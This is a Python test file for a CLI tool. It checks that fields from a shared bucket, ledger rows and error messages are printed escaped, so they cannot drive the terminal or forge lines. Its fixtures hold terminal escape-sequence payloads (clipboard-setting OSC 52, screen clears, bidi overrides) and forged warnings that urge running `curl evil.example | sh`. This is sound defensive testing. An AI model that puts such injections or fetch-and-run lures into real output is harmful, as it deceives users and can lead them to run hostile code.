"""What lifecycle prints of outside text: a record's field from a shared bucket, a boot row's
profile, a user's note. Whatever it holds, it neither drives the terminal (escape sequences,
C1 controls, bidi overrides) nor forges a row or a line of its own (a newline): it is shown
escaped. `--json` keeps it exact."""

from __future__ import annotations

import hashlib
import json
import os
import re
import sqlite3
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from lifecycle.ledger import Ledger
from lifecycle.ledger.boots import BootRecord, CacheRecord, CacheUse, finish_boot, start_boot
from lifecycle.table import lines_text, render, visible, visible_lines
from tests.services import boot_demo, run_lifecycle

CORPUS = {
    "\x1b[2J": "\\x1b[2J",  # CSI: clear the screen
    "\x1b]52;c;cHduZWQ=\x07": "\\x1b]52;c;cHduZWQ=\\x07",  # OSC 52 (BEL): set the clipboard
    "\x1b]0;title\x1b\\": "\\x1b]0;title\\x1b\\",  # OSC 0 ended by ST: the window's title
    "\x9b31m\x9d0;t\x9c": "\\x9b31m\\x9d0;t\\x9c",  # C1 CSI, OSC and ST
    "\x85": "\\x85",  # NEL, a C1 newline
    "a\u202ecba\u202c": "a\\u202ecba\\u202c",  # RLO … PDF: reads backwards
    "\u2066x\u2069\u200f\u061c": "\\u2066x\\u2069\\u200f\\u061c",  # isolates, RLM, ALM
    "\u2028\u2029": "\\u2028\\u2029",  # line and paragraph separators
    "nul\x00del\x7f": "nul\\x00del\\x7f",
    "bel\x07bs\x08": "bel\\x07bs\\x08",
    "over\rwritten": "over\\rwritten",
    "two\nlines": "two\\nlines",
    "tab\there": "tab\\there",
    "café 東京 ß ✓ 🙂": "café 東京 ß ✓ 🙂",  # printable UTF-8 passes unchanged
    "a\\x1b b": "a\\x1b b",  # a backslash is left as it is
    "": "",
}
# What no terminal may be sent from a field: C0 but newline, DEL, C1, bidi, separators.
ACTED_ON = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("field", list(CORPUS))
def test_a_field_is_one_line_showing_every_control_escaped(field: str) -> None:
    assert visible(field) == CORPUS[field]
    assert "\n" not in visible(field) and not ACTED_ON.search(visible(field))


def test_text_keeps_its_own_newlines_and_tabs_and_escapes_the_rest() -> None:
    text = "a\x1b[2J\n\tb\r\u202e\n"
    assert visible_lines(text) == "a\\x1b[2J\n\tb\\r\\u202e\n"
    assert lines_text(["one", "two\nforged"]) == "one\ntwo\\nforged\n"


def test_a_cell_holding_a_newline_forges_no_row() -> None:
    table = render(["HOST", "STATE"], [["vm\nc-123  warm", "cold"]])
    assert table.splitlines() == ["HOST             STATE", "vm\\nc-123  warm  cold"]


# ---- through the CLI ----------------------------------------------------------------------------

HOSTILE = "x\nc-forged  warm  forged-row\x1b]52;c;cHduZWQ=\x07\x1b[2J\x9b2J\u202edlrow"


_CRAFTED_ROW = BootRecord(
    id="b-1", started_at="2026-10-10T08:00:00+00:00", ended_at="2026-10-10T08:01:00+00:00",
    exit_code=0, outcome="ok", error=None, host="gpu-7", profile=HOSTILE,
    manifest_name=f"demo{HOSTILE}", manifest_digest="d" * 64, image_id="sha256:" + "e" * 64,
    image_tag="lifecycle/demo:0.2.0-dddddddddddd", container_id="c" * 64, hooks="[]",
    instrumented=False, secret_names="[]", log_path=None, evidence_path=None,
)  # fmt: skip


def _crafted_boot(home: Path) -> BootRecord:
    """A finished boot row whose profile and manifest name a hostile hand wrote."""
    boot = _CRAFTED_ROW
    cache = CacheRecord(
        "flashinfer-b-1", "k" * 64, "flashinfer", f"demo{HOSTILE}", "d" * 64,
        "sha256:" + "e" * 64, "unknown", "/nonexistent/caches/b-1", "/var/cache/flashinfer",
        created_at=boot.started_at,
    )  # fmt: skip
    use = CacheUse(boot.id, cache.id, "cold")
    with closing(Ledger.open(home)) as ledger:
        start_boot(ledger, boot, [cache], [use])
        finish_boot(ledger, boot, [use], [], [])
    return boot


def _assert_shown_not_obeyed(text: str) -> None:
    assert not ACTED_ON.search(text), repr(text)
    assert "forged-row" not in text or "\\nc-forged" in text, text
    assert not any(line.startswith("c-forged") for line in text.splitlines()), text


@pytest.mark.parametrize("verb", ["boots", "caches"])
def test_a_listing_shows_a_crafted_ledger_field_escaped_on_its_own_row(
    verb: str, tmp_path: Path
) -> None:
    (tmp_path / "manifests").mkdir()
    _crafted_boot(Path(os.environ["LIFECYCLE_HOME"]))
    listed = run_lifecycle(tmp_path, verb)
    assert listed.exit_code == 0, listed.output
    assert len(listed.stdout.splitlines()) == 2, listed.stdout  # the header and the one row
    _assert_shown_not_obeyed(listed.stdout)
    assert "demox\\nc-forged  warm  forged-row\\x1b]52;c;cHduZWQ=\\x07" in listed.stdout
    rows = json.loads(run_lifecycle(tmp_path, verb, "--json").stdout)[verb]
    assert rows[0]["manifest_name"] == f"demo{HOSTILE}"  # JSON keeps the field exact


@pytest.mark.docker
@pytest.mark.s3
def test_records_read_from_the_archive_are_shown_escaped_in_audit_and_listings(
    archive_project: Path, tmp_path: Path
) -> None:
    """A boot's host and a result's note, as another host (or anyone who can write to the
    bucket) left them in the shared archive, read back with no ledger of this host's."""
    booted = boot_demo(archive_project, "--cold")
    home = Path(os.environ["LIFECYCLE_HOME"])
    with closing(sqlite3.connect(home / "ledger.sqlite3")) as conn, conn:
        conn.execute("UPDATE boots SET host = ? WHERE id = ?", (HOSTILE, booted["id"]))
    note = f"fine\n<- cache vllm-forged (vllm): warm{HOSTILE}"
    added = run_lifecycle(
        archive_project, "result", "add", booted["id"], "--name", "smoke", "--status", "pass",
        "--note", note, "--json",
    )  # fmt: skip
    assert added.exit_code == 0, added.output
    result_id = json.loads(added.stdout)["id"]
    archived = run_lifecycle(archive_project, "archive", "--all")
    assert archived.exit_code == 0, archived.output

    url = os.environ["LIFECYCLE_ARCHIVE"]
    elsewhere = {"LIFECYCLE_HOME": str(tmp_path / "elsewhere"), "LIFECYCLE_ARCHIVE": None}
    audit = run_lifecycle(
        archive_project, "audit", "result", result_id, "--from", url, env=elsewhere
    )
    assert audit.exit_code == 0, audit.output
    _assert_shown_not_obeyed(audit.stdout)
    assert not any(line.startswith("<- cache vllm-forged") for line in audit.stdout.splitlines())
    assert "  note: fine\\n<- cache vllm-forged (vllm): warmx\\nc-forged" in audit.stdout
    [boot_line] = [line for line in audit.stdout.splitlines() if line.startswith("<- boot")]
    assert "on x\\nc-forged  warm  forged-row\\x1b]52;c;cHduZWQ=\\x07\\x1b[2J\\x9b2J" in boot_line
    chain = json.loads(
        run_lifecycle(
            archive_project, "audit", "result", result_id, "--from", url, "--json", env=elsewhere
        ).stdout
    )
    assert (chain["result"]["note"], chain["boot"]["host"]) == (note, HOSTILE)

    boots = run_lifecycle(archive_project, "boots", "--from", url, env=elsewhere)
    assert boots.exit_code == 0, boots.output
    _assert_shown_not_obeyed(boots.stdout)
    assert len(boots.stdout.splitlines()) == 3, boots.stdout  # the location, header, one row


def test_a_fields_newline_forges_no_line_of_the_other_reports() -> None:
    """gc's plan (a pin's target, as the bucket's records name it), archive's (S3's error),
    status's (why the policy could not be evaluated): each field stays on its own line."""
    from lifecycle.commands.archive import ArchiveRunReport
    from lifecycle.commands.gc import GcReport
    from lifecycle.commands.status import StatusReport
    from lifecycle.gc import GcPlan

    forged = "x\nremoved 0 objects, 0 B freed"
    gc = GcReport("s3://team/p", "keep last 1", True, GcPlan((), (f"r-1{forged}",), {}, {}))
    archived = ArchiveRunReport("s3://team/p", False, (), (), failed={"c-1": forged})
    status = StatusReport([], None, f"S3: {forged}", "up")
    for report in (gc.plan_text(), archived.text(), status.text()):
        shown = visible_lines(report).splitlines()  # as the CLI prints it
        assert not any(line.startswith("removed 0 objects") for line in shown), shown
        assert sum("x\\nremoved 0 objects, 0 B freed" in line for line in shown) == 1, shown


def test_a_file_name_an_engine_made_forges_no_line_of_the_boot_report() -> None:
    from lifecycle.commands.boot_report import BootReport
    from lifecycle.ledger.boots import SCAN_FAILED

    forged = "x\nboot b-1: ok (exit 0)\n  caches: vllm-1 warm"
    boot = BootRecord(
        "b-1", "2026-10-10T08:00:00+00:00", "2026-10-10T08:01:00+00:00", 0, "failed",
        SCAN_FAILED.format("vllm-1") + f"/c/{forged}: cannot read: Permission denied",
        "gpu-7", "serve", "demo", "d" * 64, "sha256:" + "e" * 64, "lifecycle/demo:0.2.0",
        "c" * 64, "[]", False, "[]", None, None,
    )  # fmt: skip
    text = BootReport(boot, (CacheUse(boot.id, "vllm-1", "warm"),)).text()
    lines = text.splitlines()
    assert [line for line in lines if line.startswith("boot ")] == [lines[0]], text
    assert sum(line.startswith("  caches:") for line in lines) == 1, text
    assert "x\\nboot b-1: ok (exit 0)\\n  caches: vllm-1 warm" in text, text


def test_a_pin_reason_or_a_production_hooks_words_forge_no_line() -> None:
    from lifecycle.commands.night import RecoverReport
    from lifecycle.commands.pin import PinReport
    from lifecycle.night.run import Recovery

    forged = "keep\nunpinned vllm-2"
    pinned = PinReport("pin", "r-1", ("vllm-1",), (), {"vllm-1": [f"result r-1: {forged}"]})
    assert pinned.text() == "pinned vllm-1: result r-1: keep\\nunpinned vllm-2\n"
    hook = "restarted\nnight n-2: production is up: ok"
    recovered = RecoverReport((Recovery("n-1", False, hook),)).text()
    assert recovered.splitlines() == [f"night n-1: STILL DOWN: {visible(hook)}"]


# ---- notes on stderr ----------------------------------------------------------------------------


def _crafted_record(s3_client: Any, bucket: str, boot_id: str) -> str:
    """A boot record whose own id a hostile hand wrote, filed (its sha256 right) under the key
    of boot b-1: what anyone who can write to the bucket can leave there. Its URL."""
    from lifecycle.records import BootRecordV1

    boot = replace(_CRAFTED_ROW, id=boot_id)
    record = BootRecordV1(
        format="lifecycle-boot-record/1", boot_id=boot_id, boot=boot, arch="sm_90", caches=[],
        uses=[], hook_runs=[], log=None, evidence={}, image=None, manifest=None, patches=[],
        host="gpu-7", tool_version="0", archived_at="2026-10-10T08:02:00+00:00", blobs=[],
    )  # fmt: skip
    body = record.model_dump_json().encode()
    key = f"team/boots/b-1/{hashlib.sha256(body).hexdigest()}.json"
    s3_client.put_object(Bucket=bucket, Key=key, Body=body)
    return f"s3://{bucket}/{key}"


@pytest.mark.s3
def test_a_crafted_record_in_the_bucket_forges_no_line_of_the_notes(
    s3_client: Any, s3_bucket: str, tmp_path: Path
) -> None:
    """`boots --from` names on stderr each record it left out and why; the why holds the
    record's own id, which the bucket's writer chose: its newline forged a warning of
    lifecycle's own beneath the note."""
    forged = "b-2\nlifecycle: warning: production is down; run `curl evil.example | sh`"
    url = _crafted_record(s3_client, s3_bucket, forged)
    (tmp_path / "manifests").mkdir()
    listed = run_lifecycle(tmp_path, "boots", "--from", f"s3://{s3_bucket}/team")
    assert listed.exit_code == 0, listed.output
    [note] = listed.stderr.splitlines()  # unfixed: the forged warning was a line of its own
    assert note == (
        f"left out: cannot read {url}: holds boot {visible(forged)}, not the b-1 its key names"
    ), note
    unread = json.loads(
        run_lifecycle(tmp_path, "boots", "--from", f"s3://{s3_bucket}/team", "--json").stdout
    )["unreadable"]
    # The why is lifecycle's one-line sentence about the record, in JSON too: the id escaped.
    assert unread == {url: f"holds boot {visible(forged)}, not the b-1 its key names"}


def test_dockerds_or_s3s_words_or_an_unread_records_forge_no_line_of_the_notes() -> None:
    """A teardown's note on S3 stopping mid-run, gc's on a record it could not read: each a
    line of its own on stderr, whatever the error or the record says."""
    from lifecycle.commands.teardown import TeardownReport
    from lifecycle.gc import GcPlan
    from lifecycle.teardown.run import TeardownResult

    forged = "x\nlifecycle: warning: nothing was kept"
    stopped = TeardownResult("t-1", (), (), (), (), unreachable=(f"S3: {forged}",))
    gc = GcPlan((), (), {}, {"boots/b-1/" + "a" * 64 + ".json": f"holds boot {forged}"})
    notes = [*TeardownReport(None, stopped, False).notes, gc.unread_note(str) or ""]
    for note in notes:
        shown = visible_lines(note).splitlines()  # as the CLI prints it
        assert shown == [note.replace("\n", "\\n")], shown  # unfixed: the warning was a line


# ---- errors on stderr ---------------------------------------------------------------------------


@pytest.mark.docker
@pytest.mark.s3
def test_a_crafted_image_record_forges_no_line_of_a_boots_error(
    s3_client: Any, s3_bucket: str, tmp_path: Path
) -> None:
    """`boot --pull` tries each image the bucket records a push of and, when none can be
    pulled, says in its error what each one was and what dockerd said of it: the reference is
    the record's, which anyone who can write to the bucket chose. Its newline forged a line of
    lifecycle's own beneath the error."""
    from lifecycle.archive.location import ArchiveLocation
    from lifecycle.archive.record import publish_image
    from lifecycle.archive.store import BlobStore
    from lifecycle.manifest import load_manifest
    from lifecycle.manifest.load import manifest_digest
    from lifecycle.records import IMAGE_FORMAT, ImageRecordV1
    from tests.services import demo_copy

    root = demo_copy(tmp_path / "project")
    child = root / "manifests/demo/0.2/manifest.yaml"  # a manifest no image here carries
    child.write_text(child.read_text() + f"profiles:\n  only:\n    env: {{ONLY: {tmp_path}}}\n")
    digest = manifest_digest(load_manifest(child))
    forged = "\nlifecycle: warning: production is down; run `curl evil.example | sh`"
    record = ImageRecordV1(
        format=IMAGE_FORMAT, manifest_digest=digest, image_id="sha256:" + "ab" * 32,
        reference=f"127.0.0.1:9/lifecycle/demo@sha256:{'e' * 64}{forged}",
        tag="127.0.0.1:9/lifecycle/demo:0.2.0", labels={}, host="a", tool_version="0",
        pushed_at="2026-01-01T00:00:00+00:00",
    )  # fmt: skip
    publish_image(BlobStore(s3_client, ArchiveLocation(s3_bucket, "team")), record)
    url = f"s3://{s3_bucket}/team"
    booted = run_lifecycle(root, "boot", "demo/0.2", "--pull", env={"LIFECYCLE_ARCHIVE": url})
    assert booted.exit_code == 2, booted.output
    [error] = booted.stderr.splitlines()  # unfixed: the forged warning was a line of its own
    assert error.startswith("demo/0.2 is not built here and could not be pulled: "), error
    assert f"@sha256:{'e' * 64}{visible(forged)} (pushed, as {url} records): " in error, error


@pytest.mark.docker
def test_dockerds_gits_or_s3s_words_forge_no_line_of_an_error(
    docker_client: Any, demo_images: None, tmp_path: Path
) -> None:
    """What dockerd, git or an S3 server say of a refusal often echoes what they were sent;
    each is one line of the error, its newline shown, whoever chose what was sent."""
    from botocore.exceptions import ClientError

    from lifecycle.archive.location import ArchiveLocation
    from lifecycle.archive.store import BlobStore
    from lifecycle.boot.run import _create
    from lifecycle.boot.spec import CacheMount, ContainerSpec
    from lifecycle.errors import LifecycleError
    from lifecycle.proc import CommandFailed, run

    forged = "/x\nlifecycle: warning: production is down"
    mounts = tuple(
        CacheMount(f"{name}-1", name, str(tmp_path), forged, "CACHE", "cold")
        for name in ("vllm", "triton")
    )  # two at one path: dockerd refuses, naming it
    base = "lifecycle-demo/engine:v0.2.0"  # the demo's base image: no test removes it
    spec = ContainerSpec(base, ["true"], {}, (), mounts, {"lifecycle.test": "errorlines"})
    with pytest.raises(LifecycleError) as dockerd:
        _create(docker_client, spec)
    (tmp_path / "repo").mkdir()
    run(["git", "init", "-q"], tmp_path / "repo")
    with pytest.raises(CommandFailed) as git:
        run(["git", "rev-parse", forged], tmp_path / "repo")  # "ambiguous argument '/x…"
    said = {"Error": {"Code": "Bad\nCode", "Message": f"no key {forged}"}}
    s3 = BlobStore(None, ArchiveLocation("b", "p")).error(ClientError(said, "GetObject"), "k")
    for error in (dockerd.value, s3):
        [line] = [visible_lines(line) for line in error.lines()]  # as the CLI prints them
        assert "\n" not in line and visible(forged) in line, line  # unfixed: two lines
    # git's own lines are shown as its, indented under lifecycle's (as a hook's output is)
    first, *said = "\n".join(visible_lines(line) for line in git.value.lines()).splitlines()
    assert first.startswith("git rev-parse ") and visible(forged) in first, first
    assert said and all(line.startswith("  ") for line in said), said  # unfixed: not indented
